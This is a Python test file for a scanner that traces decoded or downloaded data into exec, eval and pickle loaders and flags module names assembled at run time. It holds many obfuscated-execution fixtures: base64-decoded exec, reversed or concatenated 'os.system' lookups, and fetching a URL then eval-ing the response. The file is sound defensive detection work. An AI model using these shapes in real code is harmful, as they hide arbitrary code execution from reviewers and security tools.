"""What reaches the calls that run code in Python source, and names that are put together before they are looked up."""

import pytest

from modelaudit.engine.facts import Code, Limit
from modelaudit.parsers.repository import flows
from modelaudit.parsers.repository.source import source_facts


def codes(text):
    return {fact.phase: fact for fact in source_facts("m.py", text.encode()) if isinstance(fact, Code)}


def reached(text, phase="import"):
    return {(flow.target, flow.source) for flow in codes(text)[phase].flows}


@pytest.mark.parametrize(
    "text",
    [
        "exec(base64.b64decode(X))",
        "x = base64.b64decode(X)\ny = x.decode()\nexec(y)",
        "exec(zlib.decompress(base64.b64decode(X)))",
        "x = zlib.decompress(base64.b64decode(X))\nexec(x)",
        "exec(compile(base64.b64decode(X), 'a', 'exec'))",
        "code = compile(source=base64.b64decode(X), filename='a', mode='exec')\nexec(code)",
        "a, b = base64.b64decode(X), 1\nexec(a)",
        "s = ''\nfor c in base64.b64decode(X):\n    s += chr(c)\nexec(s)",
        "d = {}\nd['k'] = base64.b64decode(X)\nexec(d['k'])",
        "class A:\n    pass\na = A()\na.code = base64.b64decode(X)\nexec(a.code)",
        "def d(x):\n    return base64.b64decode(x)\nexec(d(X))",
        "def run(code):\n    exec(code)\nrun(base64.b64decode(X))",
        "def run(*, a, code=1):\n    pass\ndef go(code):\n    exec(code)\ngo(code=base64.b64decode(X))",
        "d = lambda x: base64.b64decode(x)\nexec(d(X))",
        "(lambda x: exec(x))(base64.b64decode(X))",
        "if (y := base64.b64decode(X)):\n    exec(y)",
        "exec(b''.join(map(base64.b64decode, X)))",
        "exec(''.join(chr(c) for c in base64.b64decode(X)))",
        "from builtins import exec as e\ne(base64.b64decode(X))",
        "getattr(__builtins__, 'ex' + 'ec')(base64.b64decode(X))",
        "def f():\n    global y\n    y = base64.b64decode(X)\nf()\nexec(y)",
        "def f():\n    e = exec\n    e(base64.b64decode(X))\nf()",
        "exec('exec(base64.b64decode(X))')",
        "exec(z)\nz = y\ny = base64.b64decode(X)",
        "exec(x0)\n" + "".join(f"x{i} = x{i + 1}\n" for i in range(500)) + "x500 = base64.b64decode(X)",
    ],
)
def test_what_is_decoded_reaches_what_runs_it(text):
    assert ("builtins.exec", "base64.b64decode") in reached("import base64, zlib\n" + text)


@pytest.mark.parametrize(
    "text",
    [
        "x = base64.b64decode(X)\nexec('print(1)')",
        "exec('x = 1', {'data': base64.b64decode(X)})",
        "def f():\n    x = base64.b64decode(X)\ndef g(x):\n    exec(x)",
        "def exec(x):\n    pass\nexec(base64.b64decode(X))",
        "a, b = base64.b64decode(X), open('f')\nexec(b)",
        "model.eval(base64.b64decode(X))",
    ],
)
def test_what_is_decoded_for_something_else_does_not(text):
    found = {pair for fact in codes("import base64\n" + text).values() for pair in fact.flows}
    assert not any(flow.source == "base64.b64decode" for flow in found)


def test_code_objects_and_downloads_are_followed_too():
    text = "import marshal, types, zlib, requests\n"
    assert ("types.FunctionType", "marshal.loads") in reached(text + "types.FunctionType(marshal.loads(X), {})()")
    assert ("marshal.loads", "zlib.decompress") in reached(text + "c = zlib.decompress(X)\nmarshal.loads(c)")
    assert ("builtins.eval", "requests.get") in reached(text + "r = requests.get('http://x')\neval(r.text)")


def test_flows_are_told_by_the_time_at_which_the_call_runs():
    text = "import base64\ndef f():\n    exec(base64.b64decode(X))\n"
    assert not reached(text)
    assert reached(text, "function") == {("builtins.exec", "base64.b64decode")}
    assert reached(text + "f()") == {("builtins.exec", "base64.b64decode")}
    body = "    def __init__(self):\n        self.f()\n    def f(self):\n        exec(base64.b64decode(X))"
    text = f"import base64\nclass A:\n{body}"
    assert reached(text, "method") == {("builtins.exec", "base64.b64decode")}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("import builtins\ngetattr(builtins, 'ex' + 'ec')('1')", "builtins.exec"),
        ("import os\ngetattr(os, 'metsys'[::-1])('id')", "os.system"),
        ("import os\nos.__dict__['sys' + 'tem']('id')", "os.system"),
        ("__import__('o' + 's').getpid()", "os.getpid"),
        ("m = __import__(bytes.fromhex('6f73').decode())", "os"),
        ("import sys\nsys.modules['o' + 's'].getpid()", "os.getpid"),
    ],
)
def test_names_that_are_put_together_are_told(text, name):
    assert name in codes(text)["import"].assembled


@pytest.mark.parametrize(
    "text",
    [
        "import os\ngetattr(os, 'getpid')()",
        "__import__('os').getpid()",
        "import functools, os\nfunctools.partial(os.getpid)()",
        "import sys\nsys.modules['os'].getpid()",
        "import numpy as np\ngetattr(np, name)()",
        "x['a' + 'b'].c()",
    ],
)
def test_names_as_they_are_written_are_not(text):
    assert not codes(text)["import"].assembled


@pytest.mark.parametrize(
    "shape",
    [
        lambda n: "".join(f"x{i} = x{i + 1}\n" for i in range(n)) + f"x{n} = b()\nexec(x0)",
        lambda n: "x = " + " + ".join(f"m{i}.f()" for i in range(n)) + "\n" + "x = x + x\n" * n + "exec(x)",
        lambda n: "def f(x):\n    return f(x)\n" + "exec(f(f(f(f(1)))))\n" * n,
        lambda n: "exec(" * 80 + "x" + ")" * 80 + "\n" + "".join(f"y{i} = exec(y{i})\n" for i in range(n)),
        lambda n: "x = y" + ".a()" * n + "\nexec(x)",
    ],
)
def test_hostile_shapes_take_no_more_steps_than_there_are(monkeypatch, shape):
    taken = []
    looked = flows.Flows.sources

    def counted(self, value, function):
        before = self._left
        found = looked(self, value, function)
        taken.append(before - self._left)
        return found

    monkeypatch.setattr(flows.Flows, "sources", counted)
    monkeypatch.setattr(flows, "STEPS_FREE", 50_000)
    monkeypatch.setattr(flows, "STEPS", 0)
    assert list(source_facts("m.py", ("import m\n" + shape(500)).encode()))
    assert sum(taken) < 50_000 + len(taken) + 2 * flows.SOURCES_MAX


def test_what_is_not_followed_to_its_end_is_said(monkeypatch):
    monkeypatch.setattr(flows, "STEPS_FREE", 10)
    monkeypatch.setattr(flows, "STEPS", 0)
    text = "import base64\n" + "x = y\n" * 20 + "exec(x)"
    assert [fact.what for fact in source_facts("m.py", text.encode()) if isinstance(fact, Limit)] == ["source"]


PICKLE = "gASVHAAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSUk5RLAYWUUpQu"


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (f"pickle.loads(base64.b64decode('{PICKLE}'))", "pickle.loads"),
        (f"P = '{PICKLE}'\ndef f():\n    return torch.load(io.BytesIO(base64.b64decode(P)))", "torch.load"),
        (f"b = io.BytesIO()\nb.write(base64.b64decode('{PICKLE}'))\njoblib.load(b)", "joblib.load"),
        (f"np.load(io.BytesIO(base64.b64decode('{PICKLE}')), allow_pickle=True)", "numpy.load"),
        (f"np.load(io.BytesIO(base64.b64decode('{PICKLE}')), allow_pickle=ANY)", "numpy.load"),
        (f"pickle.Unpickler(io.BytesIO(base64.b64decode('{PICKLE}'))).load()", "pickle.Unpickler"),
    ],
)
def test_what_is_decoded_reaches_what_unpickles_it(text, target):
    found = codes(f"import base64, io, pickle, joblib, torch\nimport numpy as np\n{text}").values()
    flows = {(flow.target, flow.source) for code in found for flow in code.flows}
    assert {(target, "base64.b64decode"), (target, "literal")} <= flows


@pytest.mark.parametrize(
    "text",
    [
        f"torch.load(io.BytesIO(base64.b64decode('{PICKLE}')), weights_only=True)",
        f"np.load(io.BytesIO(base64.b64decode('{PICKLE}')))",
        f"np.load(io.BytesIO(base64.b64decode('{PICKLE}')), allow_pickle=False)",
        "x = base64.b64decode(X)\ntorch.load('model.pt')",
    ],
)
def test_loads_of_data_alone_are_not_followed(text):
    assert not reached(f"import base64, io, torch\nimport numpy as np\n{text}")


@pytest.mark.parametrize(
    "text",
    [
        "pickle.loads(open('a-rather-long-name-of-a-folder/Model-00001-of-00002.bin', 'rb').read())",
        "pickle.loads(get('https://models.example/a-rather-long-name/Model/1'))",
        "pickle.loads(get(revision='0123456789abcdef0123456789abcdef01234567'))",
        "pickle.loads(get('A text of 40 letters and more, with blanks'))",
    ],
)
def test_paths_addresses_and_digests_are_no_data(text):
    assert not {source for _, source in reached(f"import pickle\n{text}")} & {"literal"}


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("exec(bytes(b ^ 42 for b in [1, 2, 3]))", "operator.xor"),
        ("x = bytearray(D)\nfor i in range(9):\n    x[i] ^= 7\nexec(x)", "operator.xor"),
        ("x = S\nexec(x[::-1])", "builtins.reversed"),
        ("exec(''.join(reversed(S)))", "builtins.reversed"),
    ],
)
def test_masks_and_turned_texts_are_told(text, source):
    assert ("builtins.exec", source) in reached(text)


@pytest.mark.parametrize("text", ["exec(S[1:])", "x = a ^ b\nexec(S)", "exec(S)\ny = S[::-1]"])
def test_other_operators_are_not(text):
    assert not reached(text)
